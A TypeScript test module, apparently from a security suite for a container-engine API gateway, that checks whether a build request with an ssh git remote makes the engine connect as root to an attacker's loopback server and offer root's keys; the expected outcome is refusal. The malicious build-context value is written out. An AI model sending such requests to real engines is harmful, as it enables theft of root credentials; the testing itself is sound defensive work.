import { once } from 'node:events';
import { createServer } from 'node:net';
import type { AttackResponse, Attempt, Side } from '../attempt.ts';

/** Loopback provides an address for a server of each side on ssh's port. */
const addresses: Readonly<Record<Side['name'], string>> = { engine: '127.0.0.21', gateway: '127.0.0.22' };
const connectedTo = new Map<string, boolean>();

/** Makes the engine's ssh connect to a server of the attacker's: there it is root, and offers root's keys. */
async function listening(
  side: Side,
  id: string,
  work: (address: string) => Promise<AttackResponse>,
): Promise<AttackResponse> {
  const address = addresses[side.name];
  connectedTo.set(`${side.name} ${id}`, false);
  const server = createServer((socket) => {
    connectedTo.set(`${side.name} ${id}`, true);
    socket.on('error', () => undefined);
    socket.destroy();
  });
  server.listen(22, address);
  await once(server, 'listening');
  try {
    return await work(address);
  } finally {
    server.close();
  }
}

const contexts = [
  ['scp', (address: string) => `git@${address}:x.git`],
  ['path', (address: string) => `git@${address}:/srv/x.git#main:part`],
] as const;

export const buildIdentityAttempts: readonly Attempt[] = contexts.map(([form, remote]) => ({
  id: `build-context-ssh-${form}`,
  class: 'bypass-routes',
  title: `a build context over ssh, which the engine fetches as root (${form})`,
  outcome: 'refused',
  alone: true,
  attempt: (side) =>
    listening(side, form, (address) => {
      const context = encodeURIComponent(remote(address));
      return side.send('POST', `/v1.45/build?t=${side.tag}&remote=${context}`);
    }),
  breach: (side) => Promise.resolve(connectedTo.get(`${side.name} ${form}`) === true),
}));
